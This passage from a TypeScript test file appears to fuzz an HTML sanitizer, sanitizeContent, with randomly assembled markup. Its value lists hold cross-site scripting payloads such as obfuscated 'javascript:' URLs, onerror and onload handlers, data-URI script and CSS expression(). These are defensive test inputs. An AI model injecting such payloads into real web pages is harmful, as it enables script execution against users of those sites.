    ['numeric entities', '&#x41;&#66;C', 'ABC'],
    ['lone ampersand and less-than kept', 'AT&T a < b', 'AT&T a < b'],
    ['escaped markup becomes literal text', '&lt;script&gt;', '<script>'],
    ['control characters removed', 'a\u0000b\u0007c', 'abc'],
    ['empty', '', ''],
  ])('%s', (_name, input, expected) => {
    expect(htmlToText(input)).toBe(expected);
  });
});

// ---- property check -------------------------------------------------------------------------


const TAGS = [
  'script', 'style', 'img', 'a', 'iframe', 'svg', 'math', 'mtext', 'mglyph', 'table', 'tr', 'td', 'p', 'div',
  'b', 'i', 'noscript', 'textarea', 'title', 'template', 'object', 'embed', 'base', 'meta', 'link', 'form',
  'input', 'button', 'video', 'audio', 'source', 'track', 'picture', 'details', 'summary', 'h1', 'h2', 'xmp',
  'plaintext', 'noembed', 'select', 'option', 'li', 'ul', 'pre', 'code', 'blockquote', 'br', 'frame', 'SCRIPT',
  'ImG', 'section', 'font', 'foreignObject', 'annotation-xml', 'desc', 'use',
];
const ATTRS = [
  'onerror', 'onload', 'onclick', 'OnMouseOver', 'href', 'src', 'srcset', 'style', 'class', 'id', 'poster', 'cite',
  'formaction', 'action', 'srcdoc', 'xlink:href', 'data', 'background', 'width', 'height', 'sandbox', 'target',
  'rel', 'http-equiv', 'content', 'name', 'type', 'alt', 'title', 'open', 'autofocus',
];
const VALUES = [
  'javascript:alert(1)', 'jav&#x09;ascript:alert(1)', '&#106;avascript:alert(1)', ' javascript:alert(1)',
  'JaVaScRiPt:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>',
  'data:image/png;base64,AAAA', 'data:image/svg+xml,<svg onload=alert(1)>', '//evil.example/x', '/rel', 'rel.png',
  'https://www.youtube.com/embed/x', 'http://player.vimeo.com/video/1', 'https://evil.example/embed/x', '1', '1px',
  '0', 'expression(alert(1))', 'x.png 1x, javascript:alert(1) 2x', '#frag', 'mailto:a@b.example',
  '&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;', 'java&Tab;script:x', '&#14;javascript:x', 'jav%61script:x',
  '\u0001javascript:x', 'java\nscript:x', '</style><img src=x onerror=alert(1)>', 'https://ok.example/a b',
];
const FRAGMENTS = [
  '<', '>', '</', '/>', '"', "'", '=', '`', '<!--', '-->', '--!>', '<![CDATA[', ']]>', '&', '&lt;', '&#60;',
  '&#x3c;', '&gt;', 'alert(1)', ' ', '\n', '\t', '\u0000', '/', '<?', '<!', 'text', 'héllo', '&amp;', '&nbsp;',
  '<<', 'ipt>', '</p ', '&#0000106', '&colon;',
];

function pick<T>(rand: () => number, list: readonly T[]): T {
  return list[Math.floor(rand() * list.length)] as T;
}

function randomAttribute(rand: () => number): string {
  const name = pick(rand, ATTRS);
  const value = pick(rand, VALUES);
  const r = rand();
  if (r < 0.1) return name;
  if (r < 0.45) return `${name}="${value}"`;
  if (r < 0.7) return `${name}='${value}'`;
  return `${name}=${value.replace(/\s/g, '')}`;
}

function randomHtml(rand: () => number): string {
  let out = '';
  const pieces = 1 + Math.floor(rand() * 14);
  for (let i = 0; i < pieces; i++) {
    const r = rand();
    if (r < 0.45) {
      let tag = '<' + pick(rand, TAGS);
      const attrs = Math.floor(rand() * 4);
      for (let j = 0; j < attrs; j++) tag += (rand() < 0.85 ? ' ' : '/') + randomAttribute(rand);
      out += tag + (rand() < 0.9 ? '>' : '');
    } else if (r < 0.65) {
      out += '</' + pick(rand, TAGS) + '>';
    } else if (r < 0.85) {
      out += pick(rand, FRAGMENTS);
    } else {
      out += pick(rand, VALUES);
    }
  }
  return out;
}

describe('sanitizeContent: property check', () => {
  // Fixed so a failure is reproducible; override to explore (SANITIZE_SEED=… SANITIZE_CASES=…).
  const CASES = Number(process.env.SANITIZE_CASES ?? 3000);
  const SEED = Number(process.env.SANITIZE_SEED ?? 20240601);

  it(`holds for ${CASES} generated inputs (seed ${SEED})`, () => {
    const rand = rng(SEED);
    for (let i = 0; i < CASES; i++) {
      const input = randomHtml(rand);
      const out = sanitizeContent(input, BASE);
      const context = `case ${i}\ninput:  ${JSON.stringify(input)}\noutput: ${JSON.stringify(out)}`;
      expect(elements(out).length, context).toBeLessThanOrEqual(elements(input).length);
      expect(problems(out), context).toEqual([]);
      expect(sanitizeContent(out, BASE), context).toBe(out);
    }
  }, 300_000);
});
